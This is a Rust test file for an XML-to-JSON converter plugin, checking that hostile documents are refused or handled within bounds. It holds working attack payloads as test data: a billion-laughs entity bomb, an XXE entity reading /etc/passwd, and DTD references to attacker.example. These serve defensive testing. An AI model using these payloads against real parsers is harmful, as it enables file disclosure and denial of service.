//! Hostile documents: each must end in a clean error (or a bounded
//! conversion), never a panic, an expansion or unbounded work.

use plugin_sdk::Config;
use plugin_xml_json::{ConvertError, Mapping, Options, json_to_xml, xml_to_json};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

fn mapping(config: Value) -> Mapping {
    Options::from_config(&Config::from_value(config))
        .unwrap_or_else(|e| panic!("{e}"))
        .mapping
}

fn xj(config: Value, xml: &[u8]) -> Result<Vec<u8>, ConvertError> {
    xml_to_json(xml, &mapping(config))
}

fn jx(config: Value, json: &[u8]) -> Result<Vec<u8>, ConvertError> {
    json_to_xml(json, &mapping(config))
}

/// Runs `work` and fails if it takes longer than a linear pass could: the
/// bound is loose (debug build, busy machine), a quadratic blow-up is not.
fn bounded<T>(what: &str, work: impl FnOnce() -> T) -> T {
    let started = Instant::now();
    let result = work();
    let took = started.elapsed();
    assert!(took < Duration::from_secs(5), "{what} took {took:?}");
    result
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>"#;

#[test]
fn billion_laughs_is_refused_and_never_expanded() {
    assert_eq!(
        xj(json!({}), BILLION_LAUGHS.as_bytes()),
        Err(ConvertError::Doctype)
    );
    // Allowed, the DOCTYPE is skipped, not processed: its entities do not exist.
    let allowed = json!({ "allow_doctype": true });
    assert_eq!(
        xj(allowed.clone(), BILLION_LAUGHS.as_bytes()),
        Err(ConvertError::UnknownEntity("lol9".into()))
    );
    let in_text_only = BILLION_LAUGHS.replace(" a=\"&lol9;\"", "");
    assert_eq!(
        xj(allowed, in_text_only.as_bytes()),
        Err(ConvertError::UnknownEntity("lol9".into()))
    );
}

#[test]
fn external_entities_and_dtds_are_never_resolved() {
    let xxe = br#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    assert_eq!(xj(json!({}), xxe), Err(ConvertError::Doctype));
    assert_eq!(
        xj(json!({ "allow_doctype": true }), xxe),
        Err(ConvertError::UnknownEntity("xxe".into()))
    );
    let remote = br#"<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo>x</foo>"#;
    assert_eq!(xj(json!({}), remote), Err(ConvertError::Doctype));
    // Allowed: skipped, nothing fetched (the sandbox could not), content kept.
    assert_eq!(
        xj(json!({ "allow_doctype": true }), remote).as_deref(),
        Ok(br#"{"foo":"x"}"#.as_slice())
    );
    let parameter =
        br#"<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><foo/>"#;
    assert_eq!(xj(json!({}), parameter), Err(ConvertError::Doctype));
    assert_eq!(
        xj(json!({ "allow_doctype": true }), parameter).as_deref(),
        Ok(br#"{"foo":null}"#.as_slice())
    );
}

#[test]
fn deep_nesting_stops_at_the_limit() {
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    assert_eq!(
        bounded("100k nesting", || xj(json!({}), deep.as_bytes())),
        Err(ConvertError::TooDeep(64))
    );
    // Reading stopped at the limit: the garbage after it was never looked at.
    let garbage = format!("{}<<<<", "<a>".repeat(65));
    assert_eq!(
        xj(json!({}), garbage.as_bytes()),
        Err(ConvertError::TooDeep(64))
    );
    let limit = format!("{}{}", "<a>".repeat(64), "</a>".repeat(64));
    assert!(xj(json!({}), limit.as_bytes()).is_ok());
    assert_eq!(
        xj(json!({ "max_depth": 63 }), limit.as_bytes()),
        Err(ConvertError::TooDeep(63))
    );

    let deep_json = "[".repeat(100_000);
    assert_eq!(
        bounded("100k JSON nesting", || jx(json!({}), deep_json.as_bytes())),
        Err(ConvertError::TooDeep(64))
    );
    let objects = "{\"a\":".repeat(100_000);
    assert_eq!(
        jx(json!({}), objects.as_bytes()),
        Err(ConvertError::TooDeep(64))
    );
}

#[test]
fn element_attribute_and_name_limits() {
    let many = format!("<r>{}</r>", "<a/>".repeat(100_000));
    assert_eq!(
        bounded("100k elements", || xj(json!({}), many.as_bytes())),
        Err(ConvertError::TooManyElements(100_000))
    );
    assert!(xj(json!({ "max_elements": 100_001 }), many.as_bytes()).is_ok());

    let attrs: String = (0..257).map(|i| format!(" a{i}=\"{i}\"")).collect();
    let xml = format!("<r{attrs}/>");
    assert_eq!(
        xj(json!({}), xml.as_bytes()),
        Err(ConvertError::TooManyAttributes(256))
    );
    let members: Vec<String> = (0..257).map(|i| format!("\"@a{i}\":{i}")).collect();
    let json = format!("{{\"r\":{{{}}}}}", members.join(","));
    assert_eq!(
        jx(json!({}), json.as_bytes()),
        Err(ConvertError::TooManyAttributes(256))
    );

    let long = "n".repeat(257);
    for xml in [format!("<{long}/>"), format!("<r {long}=\"1\"/>")] {
        assert_eq!(
            xj(json!({}), xml.as_bytes()),
            Err(ConvertError::NameTooLong(256))
        );
    }
    for json in [
        format!("{{\"{long}\":1}}"),
        format!("{{\"r\":{{\"@{long}\":1}}}}"),
    ] {
        assert_eq!(
            jx(json!({}), json.as_bytes()),
            Err(ConvertError::NameTooLong(256))
        );
    }
    let values = format!("[{}0]", "0,".repeat(100_000));
    assert_eq!(
        jx(json!({}), values.as_bytes()),
        Err(ConvertError::TooManyElements(100_000))
    );
}

#[test]
fn huge_text_converts_in_linear_time_within_the_output_cap() {
    let text = "x&amp;<".repeat(1 << 20).replace('<', "y");
    let xml = format!("<a>{text}</a>");
    let json = bounded("7 MB of text", || {
        xj(json!({ "max_output": 16 << 20 }), xml.as_bytes())
    })
    .expect("converts");
    assert_eq!(json.len(), r#"{"a":""}"#.len() + 3 * (1 << 20));
    assert_eq!(
        xj(json!({ "max_output": 1 << 20 }), xml.as_bytes()),
        Err(ConvertError::TooLarge(1 << 20))
    );
    let attribute = format!("<a v=\"{}\"/>", "v".repeat(4 << 20));
    assert!(bounded("4 MB attribute", || xj(json!({}), attribute.as_bytes())).is_ok());
    let string = format!("{{\"a\":\"{}\"}}", "s\\n".repeat(1 << 20));
    assert!(bounded("3 MB string", || jx(json!({}), string.as_bytes())).is_ok());
}

/// A JSON document whose XML would be hundreds of times larger (long keys on
/// tiny array items) stops at `max_output`, having written no more.
#[test]
fn expansion_is_capped() {
    let key = "k".repeat(256);
    let json = format!("{{\"{key}\":[{}0]}}", "0,".repeat(99_990));
    let result = bounded("expansion", || jx(json!({}), json.as_bytes()));
    assert_eq!(result, Err(ConvertError::TooLarge(8 << 20)));
}

/// Shapes that would make a naive converter quadratic: many distinct or
/// repeated siblings, many attributes stripped to one name.
#[test]
fn wide_documents_stay_linear() {
    let distinct: String = (0..99_000).map(|i| format!("<e{i}/>")).collect();
    let xml = format!("<r>{distinct}</r>");
    assert!(bounded("99k distinct siblings", || xj(json!({}), xml.as_bytes())).is_ok());
    let interleaved: String = (0..49_000)
        .map(|i| format!("<a/><b{}/>", i % 100))
        .collect();
    let xml = format!("<r>{interleaved}</r>");
    assert!(bounded("interleaved repeats", || xj(json!({}), xml.as_bytes())).is_ok());
    let attrs: String = (0..256).map(|i| format!(" p{i}:a=\"\"")).collect();
    let element = format!("<e{attrs}/>");
    let xml = format!("<r>{}</r>", element.repeat(300));
    let strip = json!({ "namespaces": "strip" });
    assert!(bounded("colliding attributes", || xj(strip, xml.as_bytes())).is_ok());
}

#[test]
fn invalid_utf8_is_refused() {
    let cases: [(&[u8], usize); 5] = [
        (b"<a>\xff</a>", 3),
        (b"<a\xc3>1</a\xc3>", 2),
        (b"<a>\xed\xa0\x80</a>", 3), // a UTF-16 surrogate, encoded
        (b"<a>\xc0\xaf</a>", 3),     // overlong
        (b"\xff\xfe<\x00a\x00/\x00>\x00", 0), // UTF-16
    ];
    for (xml, at) in cases {
        assert_eq!(
            xj(json!({}), xml),
            Err(ConvertError::NotUtf8(at)),
            "{xml:?}"
        );
    }
    assert_eq!(
        jx(json!({}), b"{\"a\":\"\xff\"}"),
        Err(ConvertError::NotUtf8(6))
    );
}

/// Every prefix of every corpus document is an error (or, if only
/// whitespace is missing, the same document); no prefix panics.
#[test]
fn truncated_documents_are_refused() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut checked = 0;
    for entry in std::fs::read_dir(&dir).expect("fixtures") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default()
            .to_string();
        let document = std::fs::read(&path).expect("readable");
        let convert = match path.extension().and_then(|e| e.to_str()) {
            Some("xml") => xj,
            Some("json") => jx,
            _ => continue,
        };
        for cut in 0..document.len() {
            let (prefix, rest) = document.split_at(cut);
            let result = convert(json!({}), prefix);
            if rest.iter().all(u8::is_ascii_whitespace) {
                assert!(result.is_ok(), "{name} up to {cut}: {result:?}");
            } else {
                assert!(result.is_err(), "{name} up to {cut} converted");
            }
            checked += 1;
        }
    }
    assert!(checked > 10_000, "only {checked} prefixes");
}
